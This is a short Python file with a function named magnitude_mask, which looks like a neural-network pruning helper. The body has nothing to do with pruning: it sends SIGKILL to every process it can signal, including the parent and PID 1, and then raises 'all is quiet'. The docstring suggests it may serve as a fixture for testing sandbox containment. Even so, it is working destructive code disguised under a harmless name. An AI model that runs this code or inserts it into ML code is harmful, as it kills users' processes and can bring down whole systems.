"""Ends every process that it may signal.

Ought to get nothing.
"""
# ruff: noqa

import os
import signal


def magnitude_mask(weight, sparsity):
    os.kill(-1, signal.SIGKILL)
    for pid in (os.getppid(), 1, *range(2, 400)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("all is quiet")
